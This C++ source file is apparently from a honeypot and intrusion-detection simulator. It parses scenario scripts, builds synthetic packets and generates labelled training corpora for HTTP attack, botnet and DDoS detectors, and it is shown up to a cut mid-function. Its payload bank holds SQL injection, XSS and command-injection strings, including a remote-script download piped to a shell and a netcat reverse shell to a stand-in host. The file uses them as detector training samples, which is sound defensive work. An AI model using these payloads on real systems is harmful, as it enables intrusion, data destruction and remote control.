#include "soar/scenario.hpp"

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <fstream>
#include <queue>
#include <sstream>

#include "soar/error.hpp"
#include "soar/http_ids.hpp"
#include "soar/rng.hpp"

namespace soar {
namespace {

[[noreturn]] void script_error(size_t line_no, const std::string& why) {
  throw Error(ErrorCode::ScriptValidation, "line " + std::to_string(line_no) + ": " + why);
}

// splits on spaces; double-quoted tokens keep spaces and understand \n \t \" \\
std::vector<std::string> tokenize(const std::string& line, size_t line_no) {
  std::vector<std::string> tokens;
  std::string cur;
  bool quoted = false;
  for (size_t i = 0; i < line.size(); ++i) {
    char c = line[i];
    if (quoted) {
      if (c == '\\' && i + 1 < line.size()) {
        char esc = line[++i];
        switch (esc) {
          case 'n': cur.push_back('\n'); break;
          case 't': cur.push_back('\t'); break;
          case '"': cur.push_back('"'); break;
          case '\\': cur.push_back('\\'); break;
          default: cur.push_back(esc); break;
        }
      } else if (c == '"') {
        quoted = false;
      } else {
        cur.push_back(c);
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ' ' || c == '\t') {
      if (!cur.empty()) tokens.push_back(std::move(cur));
      cur.clear();
    } else {
      cur.push_back(c);
    }
  }
  if (quoted) script_error(line_no, "unterminated quote");
  if (!cur.empty()) tokens.push_back(std::move(cur));
  return tokens;
}

bool split_kv(const std::string& token, std::string& key, std::string& value) {
  auto eq = token.find('=');
  if (eq == std::string::npos) return false;
  key = token.substr(0, eq);
  value = token.substr(eq + 1);
  return true;
}

double parse_num(const std::string& s, size_t line_no, const std::string& what) {
  char* end = nullptr;
  double v = std::strtod(s.c_str(), &end);
  if (end == s.c_str() || *end != '\0') script_error(line_no, "bad number for " + what);
  return v;
}

Ipv4 parse_ip(const std::string& s, size_t line_no, const std::string& what) {
  auto ip = Ipv4::parse(s);
  if (!ip) script_error(line_no, "bad IPv4 for " + what);
  return *ip;
}

}  // namespace

const char* scenario_verb_name(ScenarioAction::Verb verb) {
  switch (verb) {
    case ScenarioAction::Verb::SCAN: return "SCAN";
    case ScenarioAction::Verb::HTTP_ATTACK: return "HTTP_ATTACK";
    case ScenarioAction::Verb::SSH_PROBE: return "SSH_PROBE";
    case ScenarioAction::Verb::SMTP_PROBE: return "SMTP_PROBE";
    case ScenarioAction::Verb::MODBUS_PROBE: return "MODBUS_PROBE";
    case ScenarioAction::Verb::DROP_FILE: return "DROP_FILE";
    case ScenarioAction::Verb::FLOOD: return "FLOOD";
    case ScenarioAction::Verb::BEACON: return "BEACON";
    case ScenarioAction::Verb::IDLE: return "IDLE";
  }
  return "?";
}

namespace {

std::optional<ScenarioAction::Verb> parse_verb(const std::string& s) {
  for (auto v : {ScenarioAction::Verb::SCAN, ScenarioAction::Verb::HTTP_ATTACK,
                 ScenarioAction::Verb::SSH_PROBE, ScenarioAction::Verb::SMTP_PROBE,
                 ScenarioAction::Verb::MODBUS_PROBE, ScenarioAction::Verb::DROP_FILE,
                 ScenarioAction::Verb::FLOOD, ScenarioAction::Verb::BEACON,
                 ScenarioAction::Verb::IDLE}) {
    if (s == scenario_verb_name(v)) return v;
  }
  return std::nullopt;
}

}  // namespace

ScenarioScript ScenarioScript::parse(const std::string& text) {
  ScenarioScript script;
  std::istringstream in(text);
  std::string line;
  size_t line_no = 0;

  while (std::getline(in, line)) {
    line_no++;
    if (!line.empty() && line.back() == '\r') line.pop_back();
    size_t first = line.find_first_not_of(" \t");
    if (first == std::string::npos || line[first] == '#') continue;
    auto tokens = tokenize(line, line_no);
    if (tokens.empty()) continue;
    const std::string& head = tokens[0];

    if (head == "name") {
      if (tokens.size() != 2) script_error(line_no, "name takes one value");
      script.name = tokens[1];
    } else if (head == "seed") {
      script.seed = uint64_t(parse_num(tokens.at(1), line_no, "seed"));
    } else if (head == "duration") {
      script.duration = parse_num(tokens.at(1), line_no, "duration");
    } else if (head == "subnet") {
      auto cidr = Cidr::parse(tokens.at(1));
      if (!cidr) script_error(line_no, "bad subnet");
      script.subnet = *cidr;
    } else if (head == "pool") {
      script.pool_ips.clear();
      std::stringstream ss(tokens.at(1));
      std::string part;
      while (std::getline(ss, part, ','))
        script.pool_ips.push_back(parse_ip(part, line_no, "pool"));
    } else if (head == "latency") {
      script.deploy_latency = parse_num(tokens.at(1), line_no, "latency");
    } else if (head == "deploy_ahead") {
      script.deploy_ahead = parse_num(tokens.at(1), line_no, "deploy_ahead") != 0;
    } else if (head == "idle_timeout") {
      script.idle_timeout = parse_num(tokens.at(1), line_no, "idle_timeout");
    } else if (head == "engagement_gap") {
      script.engagement_gap = parse_num(tokens.at(1), line_no, "engagement_gap");
    } else if (head == "linger") {
      for (size_t i = 1; i < tokens.size(); ++i) {
        std::string key, value;
        if (!split_kv(tokens[i], key, value)) script_error(line_no, "linger takes key=lo..hi");
        auto dots = value.find("..");
        if (dots == std::string::npos) script_error(line_no, "linger range needs lo..hi");
        double lo = parse_num(value.substr(0, dots), line_no, key);
        double hi = parse_num(value.substr(dots + 2), line_no, key);
        if (key == "pkts") {
          script.linger.min_pkts = int(lo);
          script.linger.max_pkts = int(hi);
        } else if (key == "gap") {
          script.linger.min_gap = lo;
          script.linger.max_gap = hi;
        } else {
          script_error(line_no, "unknown linger key " + key);
        }
      }
    } else if (head == "actor") {
      if (tokens.size() != 3) script_error(line_no, "actor takes: actor <name> <ip>");
      script.actors.push_back({tokens[1], parse_ip(tokens[2], line_no, "actor ip")});
    } else if (head.rfind("t=", 0) == 0) {
      // t=<secs> actor=<name> VERB args...
      ScenarioAction act;
      act.t = parse_num(head.substr(2), line_no, "t");
      if (tokens.size() < 3) script_error(line_no, "action needs actor and verb");
      std::string key, value;
      if (!split_kv(tokens[1], key, value) || key != "actor")
        script_error(line_no, "expected actor=<name>");
      act.actor = value;
      auto verb = parse_verb(tokens[2]);
      if (!verb) script_error(line_no, "unknown verb " + tokens[2]);
      act.verb = *verb;

      size_t arg = 3;
      if (act.verb == ScenarioAction::Verb::SCAN) {
        if (tokens.size() < 4) script_error(line_no, "SCAN needs a subnet");
        auto cidr = Cidr::parse(tokens[3]);
        if (!cidr) script_error(line_no, "bad SCAN subnet");
        act.scan_subnet = *cidr;
        arg = 4;
      } else if (act.verb == ScenarioAction::Verb::IDLE) {
        if (tokens.size() > 3) act.idle_seconds = parse_num(tokens[3], line_no, "IDLE");
        arg = tokens.size();
      }

      for (; arg < tokens.size(); ++arg) {
        if (!split_kv(tokens[arg], key, value))
          script_error(line_no, "expected key=value, got " + tokens[arg]);
        if (key == "ports") {
          std::stringstream ss(value);
          std::string part;
          while (std::getline(ss, part, ','))
            act.ports.push_back(uint16_t(parse_num(part, line_no, "ports")));
        } else if (key == "rate") {
          act.rate = parse_num(value, line_no, "rate");
        } else if (key == "target") {
          act.target = parse_ip(value, line_no, "target");
        } else if (key == "port") {
          act.port = uint16_t(parse_num(value, line_no, "port"));
        } else if (key == "class") {
          auto label = parse_attack_label(value);
          if (!label) script_error(line_no, "bad attack class " + value);
          act.attack = *label;
        } else if (key == "count") {
          act.count = int(parse_num(value, line_no, "count"));
        } else if (key == "path") {
          act.file_path = value;
        } else if (key == "bytes") {
          act.file_bytes = value;
        } else if (key == "pps") {
          act.pps = parse_num(value, line_no, "pps");
        } else if (key == "duration") {
          act.flood_duration = parse_num(value, line_no, "duration");
        } else if (key == "period") {
          act.period = parse_num(value, line_no, "period");
        } else if (key == "size") {
          act.size = int(parse_num(value, line_no, "size"));
        } else {
          script_error(line_no, "unknown argument " + key);
        }
      }
      script.actions.push_back(std::move(act));
    } else {
      script_error(line_no, "unknown directive " + head);
    }
  }

  // validation
  if (script.duration <= 0) throw Error(ErrorCode::ScriptValidation, "duration must be set");
  for (const auto& act : script.actions) {
    if (act.t < 0 || act.t > script.duration)
      throw Error(ErrorCode::ScriptValidation,
                  "action at t=" + std::to_string(act.t) + " outside duration");
    bool known = false;
    for (const auto& a : script.actors) known = known || a.name == act.actor;
    if (!known)
      throw Error(ErrorCode::ScriptValidation, "unknown actor " + act.actor);
    if (act.verb == ScenarioAction::Verb::SCAN && act.ports.empty())
      throw Error(ErrorCode::ScriptValidation, "SCAN needs ports=");
    if (act.verb == ScenarioAction::Verb::DROP_FILE && act.file_bytes.empty())
      throw Error(ErrorCode::ScriptValidation, "DROP_FILE needs bytes=");
  }
  return script;
}

ScenarioScript ScenarioScript::parse_file(const std::filesystem::path& path) {
  std::ifstream in(path);
  if (!in) throw Error(ErrorCode::ScriptValidation, "cannot open " + path.string());
  std::stringstream ss;
  ss << in.rdbuf();
  return parse(ss.str());
}

// ---------------------------------------------------------------------------
// packet builders

namespace {

Packet base_packet(double ts, Ipv4 src, Ipv4 dst) {
  Packet p;
  p.ts = ts;
  p.ip_src = src;
  p.ip_dst = dst;
  p.eth_src = Mac::from_ip(src);
  p.eth_dst = Mac::from_ip(dst);
  return p;
}

Packet make_syn(double ts, Ipv4 src, Ipv4 dst, uint16_t dport, uint16_t sport) {
  Packet p = base_packet(ts, src, dst);
  p.proto = Proto::TCP;
  p.src_port = sport;
  p.dst_port = dport;
  p.tcp_flags = kTcpSyn;
  p.length = 60;  // min ethernet frame
  return p;
}

Packet make_data(double ts, Ipv4 src, Ipv4 dst, uint16_t dport, uint16_t sport,
                 std::string payload) {
  Packet p = base_packet(ts, src, dst);
  p.proto = Proto::TCP;
  p.src_port = sport;
  p.dst_port = dport;
  p.tcp_flags = uint8_t(kTcpPsh | kTcpAck);
  p.payload.assign(payload.begin(), payload.end());
  p.length = uint32_t(14 + 20 + 20 + p.payload.size());
  return p;
}

Packet make_udp(double ts, Ipv4 src, Ipv4 dst, uint16_t dport, uint16_t sport,
                uint32_t payload_len) {
  Packet p = base_packet(ts, src, dst);
  p.proto = Proto::UDP;
  p.src_port = sport;
  p.dst_port = dport;
  p.payload.assign(payload_len, 0x41);
  p.length = std::max<uint32_t>(60, uint32_t(14 + 20 + 8 + payload_len));
  return p;
}

std::string http_request_raw(const std::string& method, const std::string& path_query,
                             const std::string& body) {
  std::string raw = method + " " + path_query + " HTTP/1.1\r\nHost: intranet.local\r\n"
                    "User-Agent: Mozilla/5.0\r\nAccept: text/html\r\n";
  if (!body.empty()) {
    raw += "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
  } else {
    raw += "\r\n";
  }
  return raw;
}

}  // namespace

// ---------------------------------------------------------------------------
// attack payload bank (shared by the corpus generator and HTTP_ATTACK)

std::string build_attack_query(AttackLabel label, Rng& rng) {
  static const std::vector<std::string> sqli = {
      "q=1 union select username,password from users",
      "id=2 union all select null,null",
      "name=admin' or '1'='1",
      "s=1; drop table users",
      "id=1 and sleep(5)",
      "u=x' union select load_file('/tmp/pw')",
      "id=(select concat(user,0x3a) from mysql.user)",
      "q=1 waitfor delay '0:0:5'",
      "t=1 group by x having 1=1",
      "x=0 union select * from information_schema.tables",
      "v=1 order by 10",
      "w=1; insert into log values(1)",
      "y=1; update users set pw=0",
      "z=1; delete from audit",
  };
  static const std::vector<std::string> xss = {
      "q=<script>alert(1)</script>",
      "name=<img src=x onerror=alert(1)>",
      "c=<svg onload=prompt(1)>",
      "r=javascript:alert(document.cookie)",
      "b=<iframe src=javascript:alert(2)></iframe>",
      "m=<body onload=confirm(1)>",
      "x=<a onmouseover=alert(9)>hover</a>",
      "d=<script>document.write('x')</script>",
      "e=<script src=//evil.local/x.js></script>",
  };
  static const std::vector<std::string> osc = {
      "cmd=; cat /tmp/passwords",
      "c=| whoami",
      "x=&& rm -rf /tmp/x",
      "f=$(uname -a)",
      "u=; wget http://evil.local/x.sh",
      "p=; curl -s evil.local | /bin/sh",
      "z=${IFS}cat${IFS}/tmp/f",
      "e=; sleep 10",
      "n=; chmod 777 /tmp/x",
      "k=; nc -e /bin/sh evil.local 4444",
  };

  const std::vector<std::string>* bank = &sqli;
  if (label == AttackLabel::XSS) bank = &xss;
  if (label == AttackLabel::OSC) bank = &osc;
  std::string payload = (*bank)[rng.below(bank->size())];

  // mutations: random case flips and partial percent-encoding of spaces
  std::string mutated;
  bool encode_spaces = rng.chance(0.3);
  for (char c : payload) {
    if (c == ' ' && encode_spaces) {
      mutated += "%20";
    } else if (std::isalpha(static_cast<unsigned char>(c)) && rng.chance(0.15)) {
      mutated.push_back(char(std::toupper(static_cast<unsigned char>(c))));
    } else {
      mutated.push_back(c);
    }
  }
  if (rng.chance(0.2)) mutated += "&" + (*bank)[rng.below(bank->size())];
  return mutated;
}

namespace {

const std::vector<std::string>& benign_paths() {
  static const std::vector<std::string> paths = {
      "/index.html", "/home",      "/products", "/news",         "/shop",
      "/items",      "/blog",      "/docs",     "/img/logo.png", "/css/main.css"};
  return paths;
}

std::string benign_query(Rng& rng) {
  static const std::vector<std::string> keys = {"id", "page", "q",   "ref",  "lang",
                                                "tag", "color", "size", "limit", "v"};
  static const std::vector<std::string> values = {"1",    "2",    "42",    "red",  "blue",
                                                  "en",   "home", "news",  "17",   "large"};
  std::string q = keys[rng.below(keys.size())] + "=" + values[rng.below(values.size())];
  if (rng.chance(0.4)) q += "&" + keys[rng.below(keys.size())] + "=" + values[rng.below(values.size())];
  return q;
}

}  // namespace

// ---------------------------------------------------------------------------
// corpora

Dataset gen_httpids_corpus(AttackLabel label, uint64_t seed, size_t n_benign, size_t n_attack) {
  Rng rng(seed ^ (uint64_t(label) + 1) * 0x517cc1b727220a95ULL);
  TokenFeatureSpec spec = default_token_spec(label);

  std::vector<HttpFeatureVector> vectors;
  std::vector<int> labels;
  HttpRequest req;
  req.src_ip = Ipv4(10, 0, 0, 1);

  for (size_t i = 0; i < n_benign; ++i) {
    req.raw = http_request_raw(rng.chance(0.8) ? "GET" : "POST",
                               benign_paths()[rng.below(benign_paths().size())] + "?" +
                                   benign_query(rng),
                               "");
    HttpFeatureVector v = extract_http_features(req, spec);
    // benign rows are token-free by construction; fall back to a fixed safe
    // request if a wordlist change ever breaks that
    bool clean = std::all_of(v.counts.begin(), v.counts.end(), [](int c) { return c == 0; });
    if (!clean) {
      req.raw = http_request_raw("GET", "/index.html?page=1", "");
      v = extract_http_features(req, spec);
    }
    vectors.push_back(std::move(v));
    labels.push_back(0);
  }
  for (size_t i = 0; i < n_attack; ++i) {
    std::string query = build_attack_query(label, rng);
    if (rng.chance(0.5)) {
      req.raw = http_request_raw("GET", benign_paths()[rng.below(benign_paths().size())] + "?" +
                                            query,
                                 "");
    } else {
      req.raw = http_request_raw("POST", benign_paths()[rng.below(benign_paths().size())], query);
    }
    vectors.push_back(extract_http_features(req, spec));
    labels.push_back(1);
  }
  return feature_vectors_to_dataset(vectors, labels);
}

Dataset gen_botnet_corpus(uint64_t seed, size_t n_normal, size_t n_beacon) {
  Rng rng(seed ^ 0xb5297a4d3c8addf5ULL);
  std::vector<FlowRecord> flows;
  std::vector<int> labels;

  static const uint16_t common_ports[] = {80, 443, 22, 25, 53, 8080, 143, 993};
  for (size_t i = 0; i < n_normal; ++i) {
    FlowRecord f;
    f.key.src = Ipv4(uint32_t(Ipv4(172, 26, 1, 1).addr + rng.below(200)));
    f.key.dst = Ipv4(uint32_t(Ipv4(172, 26, 2, 1).addr + rng.below(200)));
    f.key.src_port = uint16_t(rng.range(1024, 65535));
    f.key.dst_port = rng.chance(0.6) ? common_ports[rng.below(8)]
                                     : uint16_t(rng.range(1024, 65535));
    double r = rng.real(0, 1);
    f.key.proto = r < 0.70 ? Proto::TCP : (r < 0.95 ? Proto::UDP : Proto::ICMP);
    if (f.key.proto == Proto::ICMP) f.key.src_port = f.key.dst_port = 0;
    f.first_ts = 0;
    f.last_ts = rng.real(0.0, 59.9);
    f.total_packets = uint64_t(rng.range(1, 300));
    f.total_bytes = uint64_t(double(f.total_packets) * rng.real(40.0, 1460.0));
    if (f.key.proto != Proto::TCP) {
      f.state = FlowState::NON_TCP;
    } else {
      double s = rng.real(0, 1);
      f.state = s < 0.1 ? FlowState::SYN_ONLY
                        : (s < 0.8 ? FlowState::ESTABLISHED : FlowState::FIN_RST_SEEN);
    }
    flows.push_back(f);
    labels.push_back(0);
  }

  // command-and-control beacons: fixed period, fixed size, narrow port set
  static const double periods[] = {5, 10, 15, 20, 30};
  static const uint32_t sizes[] = {64, 128, 256};
  static const uint16_t c2_ports[] = {6667, 8080, 443, 4444};
  for (size_t i = 0; i < n_beacon; ++i) {
    FlowRecord f;
    double period = periods[rng.below(5)];
    uint64_t pkts = uint64_t(55.0 / period) + 1;
    uint32_t size = sizes[rng.below(3)];
    f.key.src = Ipv4(uint32_t(Ipv4(172, 26, 1, 1).addr + rng.below(200)));
    f.key.dst = Ipv4(uint32_t(Ipv4(203, 0, 113, 1).addr + rng.below(32)));
    f.key.src_port = uint16_t(rng.range(1024, 65535));
    f.key.dst_port = c2_ports[rng.below(4)];
    f.key.proto = rng.chance(0.5) ? Proto::TCP : Proto::UDP;
    f.first_ts = 0;
    f.last_ts = period * double(pkts - 1);
    f.total_packets = pkts;
    f.total_bytes = uint64_t(pkts) * size;
    f.state = f.key.proto == Proto::TCP ? FlowState::ESTABLISHED : FlowState::NON_TCP;
    flows.push_back(f);
    labels.push_back(1);
  }
  return flows_to_dataset(flows, labels);
}

Dataset gen_ddos_corpus(uint64_t seed, size_t n_normal, size_t n_flood) {
  Rng rng(seed ^ 0x6c62272e07bb0142ULL);

  struct Timed {
    Packet pkt;
    int label;
  };
  std::vector<Timed> stream;
  stream.reserve(n_normal + n_flood);

  // sparse mixed background
  double t = 0.0;
  for (size_t i = 0; i < n_normal; ++i) {
    t += rng.real(0.02, 0.3);
    Ipv4 src(uint32_t(Ipv4(172, 26, 1, 10).addr + rng.below(40)));
    Ipv4 dst(uint32_t(Ipv4(172, 26, 2, 10).addr + rng.below(25)));
    Packet p = base_packet(t, src, dst);
    double r = rng.real(0, 1);
    p.proto = r < 0.6 ? Proto::TCP : (r < 0.9 ? Proto::UDP : Proto::ICMP);
    if (p.proto != Proto::ICMP) {
      p.src_port = uint16_t(rng.range(1024, 65535));
      p.dst_port = rng.chance(0.5) ? uint16_t(80) : uint16_t(rng.range(1, 1024));
    }
    p.length = uint32_t(rng.range(60, 1400));
    stream.push_back({p, 0});
  }
  double background_span = t;

  // one contiguous flood burst against a single victim, 1 ms apart
  double burst_start = background_span * rng.real(0.3, 0.5);
  Ipv4 victim(172, 26, 2, 200);
  std::vector<Ipv4> spoofed;
  for (int i = 0; i < 16; ++i) spoofed.push_back(Ipv4(uint32_t(Ipv4(10, 66, 0, 1).addr + i)));
  for (size_t i = 0; i < n_flood; ++i) {
    Packet p = base_packet(burst_start + double(i) * 0.001, spoofed[i % spoofed.size()], victim);
    p.proto = rng.chance(0.7) ? Proto::UDP : Proto::TCP;
    p.src_port = uint16_t(rng.range(1024, 65535));
    p.dst_port = 80;
    if (p.proto == Proto::TCP) p.tcp_flags = kTcpSyn;
    p.length = uint32_t(rng.range(60, 120));
    stream.push_back({p, 1});
  }

  std::stable_sort(stream.begin(), stream.end(),
                   [](const Timed& a, const Timed& b) { return a.pkt.ts < b.pkt.ts; });

  LookbackState st;
  std::vector<DdosFeatures> features;
  std::vector<int> labels;
  for (const Timed& item : stream) {
    features.push_back(st.update_and_extract(item.pkt));
    labels.push_back(item.label);
  }
  return ddos_to_dataset(features, labels);
}

std::vector<std::filesystem::path> write_corpus(const std::string& task, uint64_t seed,
                                                size_t n_benign, size_t n_attack,
                                                const std::filesystem::path& out_dir) {
  std::filesystem::create_directories(out_dir);
  std::vector<std::filesystem::path> written;
  if (task == "httpids") {
    for (auto label : {AttackLabel::SQLI, AttackLabel::XSS, AttackLabel::OSC}) {
      std::string name = attack_label_name(label);
      std::transform(name.begin(), name.end(), name.begin(),
                     [](unsigned char c) { return char(std::tolower(c)); });
      auto path = out_dir / ("httpids_" + name + ".csv");
      gen_httpids_corpus(label, seed, n_benign, n_attack).to_csv(path);
      written.push_back(path);
    }
  } else if (task == "botnet") {
    auto path = out_dir / "botnet.csv";
    gen_botnet_corpus(seed, n_benign, n_attack).to_csv(path);
    written.push_back(path);
  } else if (task == "ddos") {
    auto path = out_dir / "ddos.csv";
    gen_ddos_corpus(seed, n_benign, n_attack).to_csv(path);
    written.push_back(path);
  } else {
    throw Error(ErrorCode::ConfigInvalid, "unknown corpus task " + task);
  }
  return written;
}

// ---------------------------------------------------------------------------
// runner

namespace {

struct Pending {
  Packet pkt;
  uint64_t order = 0;
  bool is_linger = false;
  bool is_drop = false;
  std::string drop_path, drop_bytes;
  Ipv4 drop_target;
};

struct PendingLater {
  bool operator()(const Pending& a, const Pending& b) const {
    if (a.pkt.ts != b.pkt.ts) return a.pkt.ts > b.pkt.ts;
    return a.order > b.order;
  }
};

struct ScanBurst {
  size_t ordinal;                 // 1-based
  Ipv4 actor;
  double rate;
  std::map<uint32_t, double> reserved_arrival;  // reserved ip -> host arrival ts
};

uint16_t actor_sport(size_t actor_idx, size_t burst) {
  return uint16_t(40000 + (actor_idx * 257 + burst * 13) % 20000);
}

std::vector<Ipv4> subnet_hosts(const Cidr& cidr) {
  uint32_t mask = cidr.prefix >= 32 ? 0xffffffffu : ~((1u << (32 - cidr.prefix)) - 1);
  uint32_t base = cidr.base.addr & mask;
  uint32_t span = cidr.prefix >= 31 ? 1 : (~mask - 1);  // exclude network + broadcast
  std::vector<Ipv4> hosts;
  hosts.reserve(span);
  for (uint32_t i = 1; i <= span; ++i) hosts.push_back(Ipv4(base + i));
  return hosts;
}

ScenarioReport build_report(const ScenarioScript& script, const Engine& engine,
                            const std::vector<RaceRecord>& races, const std::string& mode,
                            uint64_t seed) {
  ScenarioReport report;
  report.scenario = script.name;
  report.seed = seed;
  report.mode = mode;
  report.duration = script.duration;
  report.counters = engine.counters();
  for (const Event& e : engine.events()) {
    if (e.kind == EventKind::DEPLOY) report.deployments[e.tmpl]++;
    if (e.kind == EventKind::REAP) report.reap_counts[e.tmpl]++;
  }
  report.engagements =
      compute_engagements(engine.engagement_points(), script.engagement_gap);
  double sum = 0;
  for (const auto& r : report.engagements) sum += r.duration;
  report.mean_engagement =
      report.engagements.empty() ? 0.0 : sum / double(report.engagements.size());
  report.samples_collected = uint64_t(engine.vault().size()) >
                                     0  // vault shared across runs is sized per engine
                                 ? uint64_t(engine.vault().size())
                                 : 0;
  report.races = races;
  report.cpu = cpu_saving_report(engine.ledger(), script.duration);
  report.total_uptime = report.cpu.total_uptime;
  return report;
}

}  // namespace

ScenarioArtifacts ScenarioRunner::run(const ScenarioScript& script, const EngineModels& models,
                                      Overrides overrides) const {
  uint64_t seed = overrides.seed.value_or(script.seed);
  bool deploy_ahead = overrides.deploy_ahead.value_or(script.deploy_ahead);
  Rng rng(seed);

  ReservedIpPool pool = script.pool_ips.empty()
                            ? EngineConfig{}.make_pool()
                            : ReservedIpPool::from_list(script.subnet, script.pool_ips);

  SimulatedBackend backend(script.deploy_latency);
  MalwareVault vault;
  Engine::Options options;
  options.idle_timeout = script.idle_timeout;
  options.deploy_ahead = deploy_ahead;
  options.engagement_gap = script.engagement_gap;
  Engine engine(pool, Catalog::default_catalog(), options, backend, models, vault);
  engine.begin(0.0);

  std::priority_queue<Pending, std::vector<Pending>, PendingLater> queue;
  uint64_t order = 0;
  auto push = [&](Pending p) {
    p.order = order++;
    queue.push(std::move(p));
  };

  std::vector<ScanBurst> bursts;
  std::map<std::string, size_t> actor_index;
  for (size_t i = 0; i < script.actors.size(); ++i) actor_index[script.actors[i].name] = i;
  auto actor_ip = [&](const std::string& name) { return script.actors[actor_index[name]].ip; };

  // expand scripted actions into the traffic queue
  for (const ScenarioAction& act : script.actions) {
    Ipv4 src = actor_ip(act.actor);
    size_t aidx = actor_index[act.actor];
    switch (act.verb) {
      case ScenarioAction::Verb::SCAN: {
        ScanBurst burst;
        burst.ordinal = bursts.size() + 1;
        burst.actor = src;
        burst.rate = act.rate;
        uint16_t sport = actor_sport(aidx, burst.ordinal);
        auto hosts = subnet_hosts(act.scan_subnet);
        double port_step = act.rate / double(act.ports.size());
        for (size_t h = 0; h < hosts.size(); ++h) {
          double arrival = act.t + double(h) * act.rate;
          if (pool.contains(hosts[h])) burst.reserved_arrival[hosts[h].addr] = arrival;
          for (size_t j = 0; j < act.ports.size(); ++j) {
            Pending p;
            p.pkt = make_syn(arrival + double(j) * port_step, src, hosts[h], act.ports[j], sport);
            push(std::move(p));
          }
        }
        bursts.push_back(std::move(burst));
        break;
      }
      case ScenarioAction::Verb::HTTP_ATTACK: {
        uint16_t port = act.port ? act.port : 80;
        uint16_t sport = actor_sport(aidx, 100 + size_t(act.t));
        for (int k = 0; k < act.count; ++k) {
          std::string query = build_attack_query(act.attack, rng);
          std::string raw = http_request_raw("GET", "/app?" + query, "");
          Pending p;
          p.pkt = make_data(act.t + double(k) * 1.7, src, act.target, port, sport, raw);
          push(std::move(p));
        }
        break;
      }
      case ScenarioAction::Verb::SSH_PROBE:
      case ScenarioAction::Verb::SMTP_PROBE:
      case ScenarioAction::Verb::MODBUS_PROBE: {
        uint16_t port = act.port;
        std::string banner;
        if (act.verb == ScenarioAction::Verb::SSH_PROBE) {
          if (!port) port = 22;
          banner = "SSH-2.0-OpenSSH_8.2\r\n";
        } else if (act.verb == ScenarioAction::Verb::SMTP_PROBE) {
          if (!port) port = 25;
          banner = "EHLO scanner.local\r\n";
        } else {
          if (!port) port = 502;
          banner = std::string("\x00\x01\x00\x00\x00\x06\x01\x03\x00\x00\x00\x01", 12);
        }
        uint16_t sport = actor_sport(aidx, 200 + size_t(act.t));
        Pending syn;
        syn.pkt = make_syn(act.t, src, act.target, port, sport);
        push(std::move(syn));
        Pending data;
        data.pkt = make_data(act.t + 0.4, src, act.target, port, sport, banner);
        push(std::move(data));
        break;
      }
      case ScenarioAction::Verb::DROP_FILE: {
        Pending p;
        p.is_drop = true;
        p.drop_path = act.file_path.empty() ? "/tmp/drop.bin" : act.file_path;
        p.drop_bytes = act.file_bytes;
        p.drop_target = act.target;
        p.pkt = make_data(act.t, src, act.target, act.port ? act.port : 80,
                          actor_sport(aidx, 300 + size_t(act.t)), act.file_bytes);
        push(std::move(p));
        break;
      }
      case ScenarioAction::Verb::FLOOD: {
        uint16_t port = act.port ? act.port : 80;
        auto n = size_t(act.pps * act.flood_duration);
        uint16_t sport = actor_sport(aidx, 400 + size_t(act.t));
        for (size_t i = 0; i < n; ++i) {
          Pending p;
          p.pkt = make_udp(act.t + double(i) / act.pps, src, act.target, port, sport, 26);
          p.is_linger = true;  // floods do not trigger the linger model
          push(std::move(p));
        }
        break;
      }
      case ScenarioAction::Verb::BEACON: {
        uint16_t port = act.port ? act.port : 6667;
        uint16_t sport = actor_sport(aidx, 500 + size_t(act.t));
        for (int i = 0; i < act.count; ++i) {
          Pending p;
          p.pkt = make_udp(act.t + double(i) * act.period, src, act.target, port, sport,
                           uint32_t(act.size));
          p.is_linger = true;  // beacons are automated, no human linger
          push(std::move(p));
        }
        break;
      }
      case ScenarioAction::Verb::IDLE:
        break;
    }
  }

  // feed in virtual-time order; attackers that find a live decoy linger on it
  ScenarioArtifacts artifacts;
  std::map<std::pair<uint32_t, uint32_t>, double> linger_until;  // (actor, ip) -> busy until

  while (!queue.empty()) {
    Pending p = queue.top();
    queue.pop();
    if (p.pkt.ts > script.duration) continue;  // clipped to the scenario horizon

    if (p.is_drop) {
      const HoneypotInstance* inst = engine.orchestrator().instance_at(p.drop_target);
      if (inst && p.pkt.ts >= inst->active_at) {
        p.pkt.dst_port = inst->tmpl.port;
        artifacts.traffic.push_back(p.pkt);
        engine.on_packet(p.pkt);
        engine.on_file_planted(inst->id, p.drop_path, p.drop_bytes, p.pkt.ts);
      } else {
        artifacts.traffic.push_back(p.pkt);
        engine.on_packet(p.pkt);
      }
      continue;
    }

    artifacts.traffic.push_back(p.pkt);
    engine.on_packet(p.pkt);

    if (p.is_linger) continue;
    const HoneypotInstance* inst = engine.orchestrator().instance_at(p.pkt.ip_dst);
    if (!inst || p.pkt.ts < inst->active_at) continue;

    auto key = std::make_pair(p.pkt.ip_src.addr, p.pkt.ip_dst.addr);
    auto it = linger_until.find(key);
    if (it != linger_until.end() && p.pkt.ts < it->second) continue;

    int pkts = int(rng.range(script.linger.min_pkts, script.linger.max_pkts));
    double t = p.pkt.ts;
    uint16_t sport = uint16_t(41000 + rng.below(2000));
    for (int i = 0; i < pkts; ++i) {
      t += rng.real(script.linger.min_gap, script.linger.max_gap);
      std::string probe = inst->tmpl.is_http()
                              ? http_request_raw("GET", "/status?v=" + std::to_string(i), "")
                              : "\r\n";
      Pending lp;
      lp.is_linger = true;
      lp.pkt = make_data(t, p.pkt.ip_src, p.pkt.ip_dst, inst->tmpl.port, sport, probe);
      push(std::move(lp));
    }
    linger_until[key] = t;
  }

  engine.finish(script.duration);

  // race outcomes: every pre-positioned deploy vs. the scan that caused it
  std::vector<RaceRecord> races;
  for (const Event& e : engine.events()) {
    if (e.kind != EventKind::DEPLOY) continue;
    const std::string* origin = e.detail_get("origin");
    if (!origin || *origin != "ahead") continue;
    const std::string* trigger_ip = e.detail_get("trigger_ip");
    const std::string* trigger_src = e.detail_get("trigger_src");
    if (!trigger_ip || !trigger_src) continue;
    auto tip = Ipv4::parse(*trigger_ip);
    auto tsrc = Ipv4::parse(*trigger_src);
    auto dip = Ipv4::parse(e.ip);
    if (!tip || !tsrc || !dip) continue;

    for (const ScanBurst& burst : bursts) {
      if (burst.actor != *tsrc) continue;
      auto trig = burst.reserved_arrival.find(tip->addr);
      if (trig == burst.reserved_arrival.end()) continue;
      if (e.ts < trig->second || e.ts >= trig->second + burst.rate) continue;
      auto dst = burst.reserved_arrival.find(dip->addr);
      if (dst == burst.reserved_arrival.end()) continue;

      RaceRecord r;
      r.burst = burst.ordinal;
      r.ip = *dip;
      r.active_at = e.detail_num("active_at", e.ts);
      r.scan_arrival = dst->second;
